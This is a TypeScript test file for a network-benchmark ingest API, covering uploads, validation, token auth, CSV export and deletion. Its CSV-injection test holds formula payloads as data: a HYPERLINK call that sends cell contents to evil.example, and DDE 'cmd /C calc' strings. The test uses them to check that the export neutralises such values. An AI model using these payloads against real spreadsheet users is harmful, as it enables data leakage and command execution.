import { readFileSync } from "node:fs";
import {
  accessFor,
  createPermalink,
  createToken,
  createWorkspace,
  getPermalink,
  getScenarioSummary,
  recordSignIn,
  revokeToken,
  setMember,
} from "@cnibench/db";
import { freshDatabase } from "@cnibench/test-support/database";
import { environmentQuery, exampleBundle, iperf3Fixture } from "@cnibench/test-support/fixtures";
import { rowCounts, startIngest } from "@cnibench/test-support/ingest";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { generatedOpenApi } from "./openapi.ts";

type Api = Awaited<ReturnType<typeof startIngest>>;
type Json = Record<string, unknown>;

let database: Awaited<ReturnType<typeof freshDatabase>>;
let api: Api;

beforeAll(async () => {
  database = await freshDatabase();
  api = await startIngest(database.url, { maxBundleBytes: 64 * 1024 });
});
afterAll(async () => {
  await api.close();
  await database.drop();
});

/** A variant of the example bundle, so each test's content (and so its hash) is its own. */
function bundleFor(test: string, patch: Json = {}) {
  return { ...exampleBundle(), collector: { name: "network-benchmark.sh", version: test }, ...patch };
}

describe("POST /v1/bundles", () => {
  it("stores a bundle in one go and answers 201 with where to find it", async () => {
    const before = await rowCounts(api.db);
    const res = await api.upload(bundleFor("created"));
    expect(res.status).toBe(201);
    const body = (await res.json()) as Json;
    expect(body).toMatchObject({ measurementCount: 5, warnings: [] });
    expect(body.apiUrl).toBe(`http://api.example/v1/bundles/${body.id}`);
    expect(body.webUrl).toBe(`http://web.example/scenarios/${body.scenarioId}`);
    const after = await rowCounts(api.db);
    expect(after.bundles - before.bundles).toBe(1);
    expect(after.measurements - before.measurements).toBe(5);

    const read = await fetch(`${api.base}/v1/bundles/${body.id}`);
    expect(read.status).toBe(200);
    const stored = (await read.json()) as Json & { measurements: Json[] };
    expect(stored.bundle).toEqual(bundleFor("created"));
    expect(stored.measurements.map((m) => m.value)).toEqual([14193, 13122, 12746, 13080, 12879]);
    expect(stored.measurements[4]).toMatchObject({
      metric: "http.rps",
      unit: "req/s",
      publishedValue: 12879,
      params: { connection: "short", concurrency: 64, target: "service", services: 30000 },
    });
  });

  it("keeps qualifiers, ranges, samples and published units, converting to catalogue units", async () => {
    const res = await api.upload(
      bundleFor("qualified", {
        results: [
          { metric: "apiserver.list.latency", unit: "s", value: 1.5, qualifier: "approx" },
          {
            metric: "cpu.usage",
            unit: "millicores",
            value: 100,
            qualifier: "at-most",
            params: { component: "cilium-agent" },
          },
          { metric: "memory.usage", unit: "MB", value: 289.7, params: { component: "cilium-agent" } },
          {
            metric: "cpu.usage",
            unit: "m",
            value: 5,
            qualifier: "range",
            low: 4,
            high: 6,
            params: { component: "aws-node" },
          },
          { metric: "tcp.throughput", unit: "Mbit/s", value: 9400, aggregate: "median", samples: [9300, 9400, 9500] },
        ],
      }),
    );
    expect(res.status).toBe(201);
    const { id } = (await res.json()) as Json;
    const { measurements } = (await (await fetch(`${api.base}/v1/bundles/${id}`)).json()) as { measurements: Json[] };
    expect(measurements.map((m) => [m.qualifier, m.value, m.unit, m.publishedValue, m.publishedUnit])).toEqual([
      ["approx", 1.5, "s", 1.5, "s"],
      ["at-most", 100, "millicores", 100, "millicores"],
      [null, expect.closeTo(276.28, 2), "MiB", 289.7, "MB"],
      ["range", 5, "millicores", 5, "m"],
      [null, 9.4, "Gbit/s", 9400, "Mbit/s"],
    ]);
    expect(measurements[3]).toMatchObject({ low: 4, high: 6 });
    expect(measurements[4]).toMatchObject({ aggregate: "median", samples: [9.3, 9.4, 9.5] });
  });

  it("answers 200 with the same id for identical content, however it is formatted, and writes nothing", async () => {
    const first = (await (await api.upload(bundleFor("idempotent"))).json()) as Json;
    const before = await rowCounts(api.db);
    const again = await api.upload(JSON.stringify(bundleFor("idempotent"), null, 4));
    expect(again.status).toBe(200);
    expect(((await again.json()) as Json).id).toBe(first.id);
    expect(await rowCounts(api.db)).toEqual(before);
  });

  it("leaves exactly one bundle after 20 identical uploads at once", async () => {
    const body = JSON.stringify(bundleFor("concurrent"));
    const before = await rowCounts(api.db);
    const responses = await Promise.all(Array.from({ length: 20 }, () => api.upload(body)));
    const statuses = responses.map((r) => r.status).sort();
    const ids = new Set(await Promise.all(responses.map(async (r) => ((await r.json()) as Json).id)));
    expect(statuses).toEqual([200, ...Array(18).fill(200), 201].sort());
    expect(ids.size).toBe(1);
    const after = await rowCounts(api.db);
    expect(after.bundles - before.bundles).toBe(1);
    expect(after.measurements - before.measurements).toBe(5);
  });

  it("accepts a slug outside the vocabulary with a warning, not a silent merge", async () => {
    const res = await api.upload(bundleFor("unknown-slug", { cni: { name: "shiny-new-cni", mode: "overlay-vxlan" } }));
    expect(res.status).toBe(201);
    const { warnings } = (await res.json()) as { warnings: { path: string; message: string }[] };
    expect(warnings).toEqual([
      expect.objectContaining({ path: "cni.name", message: expect.stringContaining("shiny-new-cni") }),
    ]);
  });
});

describe("bad uploads: a clear status, and nothing written", () => {
  let before: Awaited<ReturnType<typeof rowCounts>>;
  beforeEach(async () => {
    before = await rowCounts(api.db);
  });
  const nothingWritten = async () => expect(await rowCounts(api.db)).toEqual(before);
  const errorOf = async (res: Response) => {
    const body = (await res.json()) as Json & { issues?: { path: string; message: string }[] };
    expect(body.requestId).toBe(res.headers.get("x-request-id"));
    return body;
  };

  it("400 for malformed JSON, saying where", async () => {
    const res = await api.upload('{\n  "schema": "cnibench/bundle@1",\n  "cluster": {"name": "a",}\n}');
    expect(res.status).toBe(400);
    const body = await errorOf(res);
    expect(body.error).toBe("malformed_json");
    expect(body.message).toMatch(/line 3, column 27/);
    await nothingWritten();
  });

  it("400 for an empty body", async () => {
    const res = await api.upload("");
    expect(res.status).toBe(400);
    expect((await errorOf(res)).error).toBe("malformed_json");
    await nothingWritten();
  });

  it("415 for a body that is not JSON", async () => {
    const res = await api.upload("schema=cnibench", { "content-type": "application/x-www-form-urlencoded" });
    expect(res.status).toBe(415);
    expect((await errorOf(res)).message).toContain("Content-Type: application/json");
    await nothingWritten();
  });

  it("413 above the size limit", async () => {
    const huge = bundleFor("huge", { padding: "x".repeat(70 * 1024) });
    const res = await api.upload(huge);
    expect(res.status).toBe(413);
    expect((await errorOf(res)).message).toContain(String(64 * 1024));
    await nothingWritten();
  });

  it("401 without a token, with an unknown one, and with a revoked one at once; use is recorded", async () => {
    const missing = await api.upload(bundleFor("auth"), { authorization: "" });
    expect(missing.status).toBe(401);
    expect(missing.headers.get("www-authenticate")).toContain("Bearer");
    expect((await errorOf(missing)).error).toBe("missing_token");

    const unknown = await api.upload(bundleFor("auth"), { authorization: "Bearer cnb_not-a-real-token" });
    expect(unknown.status).toBe(401);
    expect((await errorOf(unknown)).error).toBe("invalid_token");

    const { createToken } = await import("@cnibench/db");
    const { token } = await createToken(api.db, api.workspaceId, "soon-revoked");
    const lastUsed = async () =>
      (await api.db.apiToken.findFirstOrThrow({ where: { workspaceId: api.workspaceId, name: "soon-revoked" } }))
        .lastUsedAt;
    expect(await lastUsed()).toBeNull();
    expect((await api.upload(bundleFor("revoked-before"), { authorization: `Bearer ${token}` })).status).toBe(201);
    // Recorded on use (at most once a minute, so uploads do not queue on the token's row).
    const used = await lastUsed();
    expect(Date.now() - (used?.getTime() ?? 0)).toBeLessThan(60_000);
    before = await rowCounts(api.db);
    await revokeToken(api.db, api.workspaceId, "soon-revoked");
    const revoked = await api.upload(bundleFor("revoked-after"), { authorization: `Bearer ${token}` });
    expect(revoked.status).toBe(401);
    await nothingWritten();
  });

  it("422 listing every contract violation with its path", async () => {
    const bad = bundleFor("invalid", {
      cluster: { provider: "tke" },
      results: [
        { metric: "http.rps", unit: "Gbit/s", value: 1 },
        { metric: "rps.custom", unit: "req/s", value: 2 },
        { metric: "x.custom", unit: "req/s", value: 3 },
        { metric: "tcp.throughput", unit: "Gbit/s", value: "fast" },
      ],
    });
    const res = await api.upload(bad);
    expect(res.status).toBe(422);
    const body = await errorOf(res);
    expect(body.error).toBe("invalid_bundle");
    const paths = body.issues?.map((i) => i.path) ?? [];
    expect(paths).toEqual(
      expect.arrayContaining([
        "cluster.name",
        "results[0].unit",
        "results[1].metric",
        "results[2].better",
        "results[3].value",
      ]),
    );
    expect(body.message).toMatch(new RegExp(`in ${body.issues?.length} places`));
    await nothingWritten();
  });
});

describe("reading bundles back", () => {
  let scenarioId: string;
  beforeAll(async () => {
    const res = (await (await api.upload(bundleFor("listing"))).json()) as Json;
    scenarioId = String(res.scenarioId);
  });

  it("404 for an unknown bundle", async () => {
    const res = await fetch(`${api.base}/v1/bundles/does-not-exist`);
    expect(res.status).toBe(404);
  });

  it("lists bundles by scenario and metric, in pages", async () => {
    const all = (await (await fetch(`${api.base}/v1/bundles?scenario=${scenarioId}`)).json()) as Json & {
      items: Json[];
    };
    expect(all.total).toBeGreaterThanOrEqual(2);
    expect(all.items.every((b) => b.scenarioId === scenarioId)).toBe(true);

    const page = (await (
      await fetch(`${api.base}/v1/bundles?scenario=${scenarioId}&pageSize=1&page=2`)
    ).json()) as Json & { items: Json[] };
    expect(page.items).toHaveLength(1);
    expect(page.items[0]?.id).toBe(all.items[1]?.id);

    const none = (await (await fetch(`${api.base}/v1/bundles?metric=udp.loss`)).json()) as Json;
    expect(none.total).toBe(0);
    const listLatency = (await (await fetch(`${api.base}/v1/bundles?metric=apiserver.list.latency`)).json()) as Json;
    expect(listLatency.total).toBe(1); // only the "qualified" upload holds it
    const rps = (await (await fetch(`${api.base}/v1/bundles?metric=http.rps&scenario=${scenarioId}`)).json()) as Json;
    expect(rps.total).toBe(Number(all.total) - 1); // all of this scenario but the "qualified" upload
  });

  it("serves the list as CSV", async () => {
    const res = await fetch(`${api.base}/v1/bundles?scenario=${scenarioId}`, { headers: { accept: "text/csv" } });
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    const lines = (await res.text()).trim().split("\n");
    expect(lines[0]).toBe(
      "id,scenarioId,clusterName,sourceTitle,sourceUrl,collectorName,runAt,receivedAt,measurementCount",
    );
    expect(lines.length - 1).toBe(Number(res.headers.get("x-total-count")));
    expect(lines[1]).toContain(
      `,${scenarioId},tke-c,Cilium Network Performance Benchmark,${(exampleBundle().source as { url: string }).url},network-benchmark.sh,,`,
    );
  });

  it("serves uploaded text that looks like a formula as text (CSV injection)", async () => {
    const hostile = bundleFor("csv-injection", {
      cluster: { ...(exampleBundle().cluster as Json), name: '=HYPERLINK("http://evil.example/?"&A1,"open")' },
      source: { title: "+cmd|' /C calc'!A0", url: "https://example.com/-1" },
      collector: { name: "@SUM(1+1)*cmd|' /C calc'!A0", version: "-2+3" },
    });
    const res = await api.upload(hostile);
    expect(res.status).toBe(201);
    const { id } = (await res.json()) as { id: string };
    const csv = await (await fetch(`${api.base}/v1/bundles?format=csv&pageSize=500`)).text();
    const row = csv.split("\n").find((line) => line.startsWith(`${id},`))!;
    // Each such cell starts with a quote (inside the CSV quoting where the cell needs it); the count stays a number.
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",'+cmd|' /C calc'!A0,`);
    expect(row).toContain(",'@SUM(1+1)*cmd|' /C calc'!A0,");
    expect(row).toMatch(/,5$/);
    for (const cell of row.split(",")) expect(cell).not.toMatch(/^"?[=+@\t\r]/);
  });

  it("400 for a bad query, naming the parameter", async () => {
    const res = await fetch(`${api.base}/v1/bundles?pageSize=100000`);
    expect(res.status).toBe(400);
    expect(((await res.json()) as { issues: { path: string }[] }).issues[0]?.path).toBe("pageSize");
  });

  it("publishes the contract as JSON Schema and the API as OpenAPI 3.1", async () => {
    const schema = (await (await fetch(`${api.base}/v1/schema`)).json()) as Json & { required: string[] };
    expect(schema.$schema).toBe("https://json-schema.org/draft/2020-12/schema");
    expect(schema.required).toEqual(expect.arrayContaining(["schema", "cluster", "node", "cni", "results"]));
    const doc = (await (await fetch(`${api.base}/v1/openapi.json`)).json()) as Json & {
      paths: Json;
      components: { schemas: Json };
    };
    expect(doc.openapi).toBe("3.1.0");
    expect(Object.keys(doc.paths).sort()).toEqual([
      "/healthz",
      "/readyz",
      "/v1/bundles",
      "/v1/bundles/{id}",
      "/v1/campaigns/close",
      "/v1/campaigns/{campaign}",
      "/v1/gate",
      "/v1/import",
      "/v1/openapi.json",
      "/v1/schema",
      "/v1/webhooks",
      "/v1/webhooks/{id}",
      "/v1/workspaces/{slug}/figures.json",
      "/v1/workspaces/{slug}/metrics",
    ]);
    expect(Object.keys(doc.components.schemas)).toEqual(
      expect.arrayContaining(["Bundle", "UploadResult", "ErrorResponse", "BundleIssue", "DeletedBundles"]),
    );
    expect(Object.keys(doc.paths["/v1/bundles/{id}"] as Json).sort()).toEqual(["delete", "get"]);
    // The checked-in document, with this deployment's address.
    const checkedIn = JSON.parse(readFileSync(generatedOpenApi.path, "utf8")) as Json;
    expect(doc).toEqual({ ...checkedIn, servers: [{ url: "http://api.example" }] });
  });
});

/** The example bundle (TKE's Cilium Overlay column) in a region of its own: a scenario no other test uses. */
function aside(region: string, patch: Json = {}) {
  const bundle = exampleBundle();
  return { ...bundle, cluster: { ...(bundle.cluster as Json), region }, ...patch };
}
const withLabel = (bundle: Json, label?: string) => {
  const { label: _given, ...cni } = bundle.cni as Json;
  return { ...bundle, cni: label === undefined ? cni : { ...cni, label } };
};

describe("labels are display names", () => {
  const nameOf = async (scenarioId: unknown) =>
    (await getScenarioSummary(api.db, [api.workspaceId], String(scenarioId)))?.label;

  it("stores the same results uploaded without a label and with one once: the latest label names the scenario", async () => {
    const results = aside("relabel");
    const before = await rowCounts(api.db);
    const first = await api.upload(withLabel(results));
    expect(first.status).toBe(201);
    const stored = (await first.json()) as Json;
    // No label given: its CNI settings name it (scenarioName).
    expect(await nameOf(stored.scenarioId)).toBe("Cilium VXLAN, kube-proxy replacement");

    for (const [label, name] of [
      ["Cilium Overlay", "Cilium Overlay"],
      [undefined, "Cilium Overlay"], // an upload naming no label leaves the name
      ["Cilium VXLAN", "Cilium VXLAN"],
    ] as const) {
      const again = await api.upload(withLabel(results, label));
      expect(again.status, label).toBe(200);
      expect((await again.json()) as Json).toMatchObject({ id: stored.id, scenarioId: stored.scenarioId });
      expect(await nameOf(stored.scenarioId)).toBe(name);
    }
    // One bundle of examples/bundle.json's five figures, one scenario.
    const after = await rowCounts(api.db);
    expect([after.bundles, after.measurements, after.scenarios]).toEqual([
      before.bundles + 1,
      before.measurements + 5,
      before.scenarios + 1,
    ]);
    // The bundle reads back as first uploaded.
    const read = (await (await fetch(`${api.base}/v1/bundles/${stored.id}`)).json()) as { bundle: Json };
    expect(read.bundle).toEqual(withLabel(results));
  });

  it("imports the same results under a new label as the same campaign and bundles, renaming the scenario", async () => {
    const post = (label: string) =>
      fetch(`${api.base}/v1/import?${environmentQuery({ region: "relabel-import", label })}`, {
        method: "POST",
        headers: { authorization: `Bearer ${api.token}`, "content-type": "application/octet-stream" },
        body: iperf3Fixture(),
      });
    const first = await post("iperf3 lab");
    expect(first.status).toBe(201);
    const stored = (await first.json()) as { campaign: string; bundles: Json[] };
    const before = await rowCounts(api.db);
    const again = await post("Cilium native, lab");
    expect(again.status).toBe(200);
    const repeated = (await again.json()) as { campaign: string; bundles: Json[] };
    expect(repeated.campaign).toBe(stored.campaign);
    expect(repeated.bundles.map((b) => [b.id, b.created])).toEqual(stored.bundles.map((b) => [b.id, false]));
    expect(await rowCounts(api.db)).toEqual(before);
    expect(await nameOf(stored.bundles[0]?.scenarioId)).toBe("Cilium native, lab");
  });
});

describe("DELETE /v1/bundles/:id and /v1/campaigns/:campaign", () => {
  const tokens = { owner: "", member: "", otherTeam: "" };
  let ownerId: string;
  const send = (path: string, token: string) =>
    fetch(`${api.base}${path}`, { method: "DELETE", headers: { authorization: `Bearer ${token}` } });

  beforeAll(async () => {
    const signIn = async (s: string) =>
      (await recordSignIn(api.db, { issuer: "t", subject: s, email: `${s}@example.test`, name: s })).id;
    // The first to sign in owns the public workspace, the one startIngest's token uploads into.
    ownerId = await signIn("owner");
    const member = await signIn("member");
    const stranger = await signIn("stranger");
    await setMember(api.db, api.workspaceId, "member@example.test", "member");
    tokens.owner = (await createToken(api.db, api.workspaceId, "owner-ci", ownerId)).token;
    tokens.member = (await createToken(api.db, api.workspaceId, "member-ci", member)).token;
    const other = await createWorkspace(api.db, stranger, { slug: "other-team", name: "Other", visibility: "private" });
    tokens.otherTeam = (await createToken(api.db, other.id, "other-ci", stranger)).token;
  });

  it("deletes a bundle for a token of an owner only; others get 403, another workspace 404", async () => {
    const stored = (await (await api.upload(aside("doomed-bundle"))).json()) as Json;
    const path = `/v1/bundles/${stored.id}`;
    const before = await rowCounts(api.db);

    // startIngest's token, made like `npm run token`, has no creator: no owner stands behind it.
    for (const token of [api.token, tokens.member]) {
      const res = await send(path, token);
      expect(res.status).toBe(403);
      expect(((await res.json()) as Json).error).toBe("not_owner");
    }
    const elsewhere = await send(path, tokens.otherTeam);
    expect(elsewhere.status).toBe(404);
    expect(await elsewhere.text()).not.toMatch(/public/i);
    expect((await send("/v1/bundles/does-not-exist", tokens.owner)).status).toBe(404);
    expect(await rowCounts(api.db)).toEqual(before);

    const res = await send(path, tokens.owner);
    expect(res.status).toBe(200);
    // Its scenario had no other bundle: it goes too.
    expect(await res.json()).toEqual({
      bundleIds: [stored.id],
      scenarioIds: [stored.scenarioId],
      removedScenarioIds: [stored.scenarioId],
    });
    expect(await rowCounts(api.db)).toEqual({
      bundles: before.bundles - 1,
      measurements: before.measurements - 5,
      scenarios: before.scenarios - 1,
    });
    expect((await fetch(`${api.base}${path}`)).status).toBe(404);
    expect((await send(path, tokens.owner)).status).toBe(404);
  });

  it("deletes every bundle of a campaign in the token's workspace, whatever scenario; permalinks name them", async () => {
    const campaign = "cilium-1.19-upgrade/2026-11";
    const upload = async (region: string, token = api.token) => {
      const res = await fetch(`${api.base}/v1/bundles`, {
        method: "POST",
        headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
        body: JSON.stringify(aside(region, { campaign })),
      });
      return (await res.json()) as Json;
    };
    const a = await upload("campaign-a");
    const b = await upload("campaign-b");
    // Another run (the same figures again would be the same run, whatever its campaign).
    const kept = (await (
      await api.upload(aside("campaign-a", { campaign: "another", runAt: "2026-03-01T00:00:00Z" }))
    ).json()) as Json;
    const theirs = await upload("campaign-a", tokens.otherTeam);
    const link = await createPermalink(api.db, await accessFor(api.db, ownerId), {
      scenarioIds: [String(a.scenarioId), String(b.scenarioId)],
      view: {},
    });
    const path = `/v1/campaigns/${encodeURIComponent(campaign)}`;
    const before = await rowCounts(api.db);

    expect((await send(path, tokens.member)).status).toBe(403);
    expect((await send("/v1/campaigns/no-such-campaign", tokens.owner)).status).toBe(404);
    expect(await rowCounts(api.db)).toEqual(before);

    const res = await send(path, tokens.owner);
    expect(res.status).toBe(200);
    // Scenario a keeps the bundle of campaign "another"; b had only this campaign's.
    expect(await res.json()).toEqual({
      bundleIds: [a.id, b.id].sort(),
      scenarioIds: [a.scenarioId, b.scenarioId].sort(),
      removedScenarioIds: [b.scenarioId],
    });
    expect((await rowCounts(api.db)).bundles).toBe(before.bundles - 2);
    expect((await fetch(`${api.base}/v1/bundles/${kept.id}`)).status).toBe(200);
    // Another workspace's campaign of the same name is its own.
    expect(await api.db.bundle.count({ where: { id: String(theirs.id) } })).toBe(1);
    const after = await getPermalink(api.db, await accessFor(api.db, ownerId), link?.slug ?? "");
    expect(after?.missing.map((p) => p.bundleId).sort()).toEqual([a.id, b.id].sort());
    expect((await send(path, tokens.owner)).status).toBe(404);
  });
});
